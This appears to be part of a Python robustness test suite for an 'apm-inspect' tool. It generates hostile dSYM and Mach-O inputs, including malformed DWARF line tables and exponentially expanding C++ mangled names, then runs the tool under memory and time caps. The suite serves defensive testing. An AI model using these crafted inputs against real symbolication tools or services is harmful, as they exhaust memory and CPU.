    # Issue 38 (N1): 100 DWARF 5 line tables whose entry formats are empty while the counts say 1,000,000 each
    # grew atos and symbolicate to 3.9 GB; the zipped dSYM killed scan --dsym.
    dwarf = hostile_line_dsym(lambda base: (
        empty_format_table(1_000_000) * 100,
        [base + index * len(empty_format_table(1_000_000)) for index in range(100)]))
    dsym, zipped, reports = symbol_case_folder(d, "n1-empty-entry-formats", dwarf)
    return Case("dsym-empty-entry-formats", f"a {len(dwarf) // KiB} KiB dSYM ({os.path.getsize(zipped)} bytes "
                "zipped) whose 100 line tables have empty entry formats and counts of 1,000,000",
                "every table refused with a located diagnostic; under 300 MB and seconds",
                symbol_runs("n1", dsym, zipped, reports, 30.0))


def case_dsym_shared_program(d, s):
    # Issue 38 (N2): 1,000 line-table headers sharing one line program (a 185 KB file) took 2.4 GB.
    dwarf = hostile_line_dsym(lambda base: shared_program_tables(base, 1_000, 150_000))
    dsym, zipped, reports = symbol_case_folder(d, "n2-shared-program", dwarf)
    return Case("dsym-shared-program", f"a {len(dwarf) // KiB} KiB dSYM whose 1,000 line-table headers share one "
                "program of 150,000 rows", "the program read once, the other tables refused; under 300 MB",
                symbol_runs("n2", dsym, zipped, reports, 30.0))


def doubling_name(steps):
    """An Itanium name whose parameters each hold the one before twice: ~13 * 2^steps bytes printed."""
    def substitution(index):
        if index == 0:
            return "S_"
        digits, value, text = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ", index - 1, ""
        while True:
            text = digits[value % 36] + text
            value //= 36
            if value == 0:
                return "S" + text + "_"
    return "_Z1f1a" + "".join("1aI" + substitution(2 * step) * 2 + "E" for step in range(steps))


def binary_with_symbol_name(name):
    """The fixture binary with `_checksum`'s name replaced by `name` (a new string table at the end)."""
    data = bytearray(open(FIXTURE_BINARY, "rb").read())
    for cmd, at in macho_commands(data):
        if cmd == 0x2:  # LC_SYMTAB
            symoff, nsyms, stroff, strsize = struct.unpack_from("<IIII", data, at + 8)
            symtab = at
        if cmd == 0x19 and data[at + 8:at + 24].rstrip(b"\0") == b"__LINKEDIT":
            linkedit = at
    strings = bytes(data[stroff:stroff + strsize])
    target = strings.index(b"\0_checksum\0") + 1
    new_offset = len(strings)
    for index in range(nsyms):
        entry = symoff + 16 * index
        if struct.unpack_from("<I", data, entry)[0] == target:
            struct.pack_into("<I", data, entry, new_offset)
    strings += b"_" + name.encode() + b"\0"
    while len(data) % 8:
        data.append(0)
    struct.pack_into("<II", data, symtab + 16, len(data), len(strings))
    data += strings
    fileoff = struct.unpack_from("<Q", data, linkedit + 40)[0]
    struct.pack_into("<Q", data, linkedit + 32, (len(data) - fileoff + 0xFFF) & ~0xFFF)  # vmsize
    struct.pack_into("<Q", data, linkedit + 48, len(data) - fileoff)  # filesize
    return bytes(data)


def case_cxx_doubling_name(d, s):
    # Issue 38 (N3): C++ names whose substitutions double at each step: 322 bytes took 70 s and 4.2 GB, 464 more
    # than 120 s. Here as the name of a function the lookup lands in, through atos and symbolicate.
    runs = []
    sizes = []
    for steps in (28, 46):
        name = doubling_name(steps)
        sizes.append(len(name) + 1)
        binary = os.path.join(d, f"Demo-arm64-{len(name) + 1}")
        with open(binary, "wb") as out:
            out.write(binary_with_symbol_name(name))
        runs.append(Run(f"atos {len(name) + 1}-byte name", ["atos", "-o", binary, "-l", "0x100000000",
                                                             "0x100004110"], bound=SYMBOL_BOUND, cap=30.0,
                        present=(name[:40],)))
        runs.append(Run(f"atos json {len(name) + 1}-byte name", ["atos", "--format", "json", "-o", binary, "-l",
                                                                  "0x100000000", "0x100004110"], json=True,
                        bound=SYMBOL_BOUND, cap=30.0))
    return Case("cxx-doubling-name", f"a Mach-O whose function names are C++ manglings of {sizes[0]} and "
                f"{sizes[1]} bytes with doubling substitutions", "the mangled name kept; under 300 MB and seconds",
                runs)


CASES = [case_big_file, case_big_line, case_deep_json, case_gzip_bomb, case_tar_bomb, case_tar_big_member,
         case_pcap_4gb, case_pcapng_loop,
         case_tar_escape, case_sqlite_hostile, case_sqlite_rows, case_powerlog_names, case_xml_entities,
         case_har_entries, case_charles_entries, case_pcap_packets, case_registers,
         case_encoding, case_fifo, case_dev_zero, case_unreadable, case_symlink_loop, case_mistyped_values,
         case_dsym_empty_entry_formats, case_dsym_shared_program, case_cxx_doubling_name]


# --------------------------------------------------------------------------------------------------------------
# Running and checking.

ERROR_LINE = re.compile(r"^.+?(?::\d+(?::\d+)?)?: (error|warning|note): \S.*$")
CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]")


def tree_digest(root):
    """Hash of every entry under root: type, mode, size, link target, content of regular files."""
    digest = hashlib.sha256()
    for base, dirs, files in os.walk(root):
        dirs.sort()
        for name in sorted(dirs + files):
            path = os.path.join(base, name)
            info = os.lstat(path)
            digest.update(f"{os.path.relpath(path, root)}|{stat.S_IFMT(info.st_mode)}|"
                          f"{stat.S_IMODE(info.st_mode)}|{info.st_size}|{info.st_mtime_ns}".encode("utf-8",
                                                                                                "surrogateescape"))
            if stat.S_ISLNK(info.st_mode):
                digest.update(os.readlink(path).encode("utf-8", "surrogateescape"))
            elif stat.S_ISREG(info.st_mode):
                try:
                    with open(path, "rb") as f:
                        while chunk := f.read(8 * MiB):
                            digest.update(chunk)
                except PermissionError:  # the unreadable case when the suite does not run as root
                    digest.update(b"unreadable")
    return digest.hexdigest()


@dataclasses.dataclass
class Result:
    case: str
    run: Run
    status: str = ""
    exit: object = None
    rss: int = 0
    wall: float = 0.0
    cpu: float = 0.0
    problems: list = dataclasses.field(default_factory=list)
    notes: list = dataclasses.field(default_factory=list)

    @property
    def passed(self):
        return not self.problems


def _measure(argv, env, cwd, cap, wall_cap, out_path, err_path, conn):
    """Runs argv under the caps and sends back (exit or -signal, timed out, rusage, wall).

    Runs in a small process from the forkserver: a child's ru_maxrss keeps the high-water mark of the process it
    was forked from, so forking the binary from the harness (which grows while it generates inputs and parses
    outputs) would report the harness's memory instead of the binary's."""

    def limits():
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))

    with open(out_path, "wb") as out, open(err_path, "wb") as err:
        started = time.monotonic()
        child = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=out, stderr=err, env=env, cwd=cwd,
                                 preexec_fn=limits, start_new_session=True)
        timed_out = threading.Event()

        def kill():
            timed_out.set()
            try:
                os.killpg(child.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass

        timer = threading.Timer(wall_cap, kill)
        timer.start()
        _, status, usage = os.wait4(child.pid, 0)
        wall = time.monotonic() - started
        timer.cancel()
        child.returncode = os.waitstatus_to_exitcode(status)
        try:  # anything the command left running in its session
            os.killpg(child.pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass
    conn.send((child.returncode, timed_out.is_set(), (usage.ru_maxrss, usage.ru_utime, usage.ru_stime), wall))
    conn.close()


def execute(binary, run, workdir, memory_cap, setpriv):
    """Runs one command; returns (exit or -signal, timed_out, (maxrss KiB, utime, stime), wall, stdout path,
    stderr path, TMPDIR)."""
    tmp = os.path.join(workdir, "tmp")
    home = os.path.join(workdir, "home")
    for p in (tmp, home):
        shutil.rmtree(p, ignore_errors=True)
        os.mkdir(p, 0o700)
        if run.as_nobody:
            os.chown(p, 65534, 65534)
    env = {"PATH": "/usr/bin:/bin", "TMPDIR": tmp, "HOME": home, "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8"}
    argv = [binary] + run.args
    if run.as_nobody:
        argv = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "--"] + argv
    cap = max(memory_cap, run.bound + GiB)
    out_path, err_path = os.path.join(workdir, "stdout"), os.path.join(workdir, "stderr")
    context = multiprocessing.get_context("forkserver")
    receiver, sender = context.Pipe(duplex=False)
    worker = context.Process(target=_measure, args=(argv, env, workdir, cap, run.cap, out_path, err_path, sender))
    worker.start()
    sender.close()
    exit_code, timed_out, usage, wall = receiver.recv()
    worker.join()
    return exit_code, timed_out, usage, wall, out_path, err_path, tmp


def reports_problem(run, stderr_text, stdout_path, size):
    """True when the run said something is wrong: an error or warning line, or a diagnostic in its output."""
    if re.search(r": (warning|error): ", stderr_text):
        return True
    with open(stdout_path, "rb") as f:
        head = f.read(min(size, 64 * MiB))
        if size > 64 * MiB:
            f.seek(size - 16 * MiB)
            head += f.read()
    if run.unknown_ok and re.search(rb'"kind"\s*:\s*"unknown"', head):
        return True
    if run.json:  # a diagnostic object, or a finding rendered as a compiler-style line inside the JSON
        return re.search(rb'"severity"\s*:\s*"(warning|error)"|: (warning|error): ', head) is not None
    return re.search(rb"(?i)\b(warning|error)\b", head) is not None


def check(result, exit_code, timed_out, usage, wall, out_path, err_path, tmp, json_limit):
    run = result.run
    result.exit = exit_code
    result.rss = usage[0] * 1024
    result.wall = wall
    result.cpu = usage[1] + usage[2]
    problems = result.problems
    if timed_out:
        problems.append(f"timeout: killed after {run.cap:.0f} s")
    elif exit_code < 0:
        try:
            name = signal.Signals(-exit_code).name
        except ValueError:
            name = "unknown"
        problems.append(f"killed by signal {-exit_code} ({name})")
    elif exit_code not in run.exits:
        problems.append(f"exit {exit_code}, expected {'/'.join(map(str, run.exits))}")
    if result.rss > run.bound:
        problems.append(f"peak RSS {result.rss / MiB:.0f} MiB over the {run.bound / MiB:.0f} MiB bound")
    with open(err_path, "rb") as f:
        err = f.read(4 * MiB)
    if CONTROL.search(err):
        problems.append("raw control byte on stderr")
    try:
        err_text = err.decode("utf-8")
    except UnicodeDecodeError:
        problems.append("stderr is not valid UTF-8")
        err_text = err.decode("utf-8", "replace")
    bad = [line for line in err_text.splitlines() if line.strip() and not ERROR_LINE.match(line)]
    if bad:
        problems.append(f"{len(bad)} stderr line(s) not `path:line:col: severity: message`, first: "
                        f"{bad[0][:100]!r}")
    size = os.path.getsize(out_path)
    # translate writes Apple's text byte for byte when stdout is not a terminal (docs/crash-translation.md): a
    # file or pipe gets the report as it is; only a terminal gets the escaped view.
    if not run.json:
        with open(out_path, "rb") as f:
            while run.args[0] != "translate" and (chunk := f.read(8 * MiB)):
                if CONTROL.search(chunk.replace(b"\r\n", b"\n")):
                    problems.append("raw control byte on stdout (text output)")
                    break
    elif not timed_out and exit_code >= 0:
        if size > json_limit:
            result.notes.append(f"JSON not parsed: {size / MiB:.0f} MiB of output > --json-parse-limit")
        else:
            with open(out_path, "rb") as f:
                data = f.read()
            try:
                if run.ndjson:
                    for line in data.splitlines():
                        if line.strip():
                            json.loads(line)
                elif data.strip() or exit_code == 0:
                    json.loads(data)
            except ValueError as error:
                problems.append(f"stdout is not valid JSON: {str(error)[:80]}")
    if run.absent or run.present:
        with open(out_path, "rb") as f:
            data = f.read(min(size, 512 * MiB))
        problems += [f"stdout contains {s!r}" for s in run.absent if s.encode() in data]
        problems += [f"stdout lacks {s!r}" for s in run.present if s.encode() not in data]
    problems += [f"stderr lacks {s!r}" for s in run.err_present if s not in err_text]
    if run.must_report and exit_code >= 0 and not timed_out and not reports_problem(run, err_text, out_path,
                                                                                       size):
        problems.append("accepted without an error or warning")
    leftovers = os.listdir(tmp) if os.path.isdir(tmp) else []
    if leftovers:
        problems.append(f"TMPDIR not empty afterwards: {', '.join(sorted(leftovers)[:3])}")
    result.notes.append(f"stdout {size / MiB:.1f} MiB" if size >= MiB else f"stdout {size} B")


def markdown(results, scale, binary):
    lines = [f"Scale `{scale}`, binary `{binary}`, {time.strftime('%Y-%m-%d %H:%M UTC', time.gmtime())}.", "",
             "| Case | Command | Input MB | Exit | Peak RSS MiB | Bound MiB | Wall s | CPU s | Result "
             "| Problems / notes |",
             "|---|---|---:|---:|---:|---:|---:|---:|---|---|"]
    for r in results:
        exit_text = "—" if r.exit is None else (f"sig {-r.exit}" if r.exit < 0 else str(r.exit))
        detail = "; ".join(r.problems + r.notes).replace("|", "\\|")
        lines.append(f"| {r.case} | {r.run.label.replace('|', '/')} | {r.run.input_size / 1e6:.1f} | {exit_text} | "
                     f"{r.rss / MiB:.0f} | {r.run.bound / MiB:.0f} | {r.wall:.2f} | {r.cpu:.2f} | "
                     f"{'pass' if r.passed else ('**open** (known)' if known_open(r) else '**FAIL**')} | {detail} |")
    return "\n".join(lines) + "\n"


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--bin", required=True, help="the apm-inspect binary to test")
    parser.add_argument("--scale", choices=sorted(SCALES), default="ci")
    parser.add_argument("--markdown", help="write the results table to this file")
    parser.add_argument("--only", help="run only the cases whose name matches this regular expression")
    parser.add_argument("--workdir", help="where to generate inputs (default: a new folder in $TMPDIR)")
    parser.add_argument("--memory-cap", type=int, default=4 * GiB,
                        help="address-space cap per run, bytes (raised to bound + 1 GiB where needed)")
    parser.add_argument("--json-parse-limit", type=int, default=512 * MiB,
                        help="largest JSON output the harness parses (bigger ones are listed as not parsed)")
    parser.add_argument("--keep", action="store_true", help="keep the generated inputs")
    parser.add_argument("--list", action="store_true", help="list the cases and exit")
    args = parser.parse_args()
    if args.list:
        for make in CASES:
            print(make.__name__.removeprefix("case_").replace("_", "-"))
        return 0
    binary = os.path.abspath(args.bin)
    if not os.access(binary, os.X_OK):
        parser.error(f"{binary} is not an executable")
    setpriv = shutil.which("setpriv")
    scale = SCALES[args.scale]
    root = args.workdir or tempfile.mkdtemp(prefix="apm-hostile-")
    os.makedirs(root, exist_ok=True)
    os.chmod(root, 0o755)  # the unreadable case runs as uid 65534, who must traverse it
    results = []
    try:
        for make in CASES:
            slug = make.__name__.removeprefix("case_").replace("_", "-")
            if args.only and not re.search(args.only, slug):
                continue
            case_root = os.path.join(root, slug)
            inputs, work = os.path.join(case_root, "inputs"), os.path.join(case_root, "work")
            os.makedirs(inputs)
            os.makedirs(work)
            os.chmod(case_root, 0o755)
            os.chmod(inputs, 0o755)
            started = time.monotonic()
            case = make(inputs, scale)
            print(f"== {case.name}: {case.issue} (generated {size_of(inputs) / MiB:.1f} MiB in "
                  f"{time.monotonic() - started:.1f} s)", flush=True)
            before = tree_digest(inputs)
            for run in case.runs:
                run.input_size = sum(size_of(a) for a in run.args if a.startswith(inputs))
                result = Result(case.name, run)
                if run.as_nobody and not setpriv:
                    result.problems.append("running as root and setpriv is missing: the permission check "
                                           "cannot be made")
                else:
                    outcome = execute(binary, run, work, args.memory_cap, setpriv)
                    check(result, *outcome, json_limit=args.json_parse_limit)
                    for p in ("stdout", "stderr"):
                        os.remove(os.path.join(work, p))
                results.append(result)
                mark = "ok  " if result.passed else ("OPEN" if known_open(result) else "FAIL")
                print(f"  {mark} {run.label}: exit {result.exit}, {result.rss / MiB:.0f} MiB, {result.wall:.2f} s"
                      + ("" if result.passed else f" -- {'; '.join(result.problems)}"), flush=True)
            after_digest = tree_digest(inputs)
            extra = case.after(inputs) if case.after else []
            if after_digest != before:
                extra.append("the input folder changed")
            if extra:
                result = Result(case.name, Run("(after all runs)", []), problems=extra)
                results.append(result)
                print(f"  FAIL after all runs -- {'; '.join(extra)}", flush=True)
            if not args.keep:
                for base, dirs, _ in os.walk(case_root):
                    for name in dirs:
                        os.chmod(os.path.join(base, name), 0o755)
                shutil.rmtree(case_root)
    finally:
        if not args.keep and not args.workdir:
            shutil.rmtree(root, ignore_errors=True)
    table = markdown(results, args.scale, args.bin)
    if args.markdown:
        with open(args.markdown, "w", encoding="utf-8") as out:
            out.write(table)
    failed = [r for r in results if not r.passed]
    print(f"\n{len(results) - len(failed)} of {len(results)} runs met their expectation.")
    known = [r for r in failed if known_open(r)]
    for r in known:
        print(f"OPEN {r.case} / {r.run.label}: {'; '.join(r.problems)} (known: {known_open(r)})")
    # A known-open run that now passes is said, so the list shrinks as the work lands.
    for r in results:
        if r.passed and known_open(r):
            print(f"NOW PASSES {r.case} / {r.run.label}: take it off KNOWN_OPEN")
    unexpected = [r for r in failed if not known_open(r)]
    for r in unexpected:
        print(f"FAIL {r.case} / {r.run.label}: {'; '.join(r.problems)}")
    stale = [r for r in results if r.passed and known_open(r)]
    return 1 if unexpected or stale else 0


# Runs that fail an expectation for a reason already filed, each with that reason. Only a peak-memory overrun may
# be listed: a signal, a hang, a wrong exit status or unescaped output is never "known". Empty: the JSON writers
# stream from the models since issue 21 ("Writing JSON"), which closed the six JSON-output rows listed before.
KNOWN_OPEN = {}


def known_open(result):
    reason = KNOWN_OPEN.get((result.case, result.run.label))
    if reason is None:
        return None
    # Only memory overruns: anything else the run did wrong is a failure whatever the list says.
    if all("peak RSS" in p for p in result.problems) or result.passed:
        return reason
    return None


if __name__ == "__main__":
    sys.exit(main())
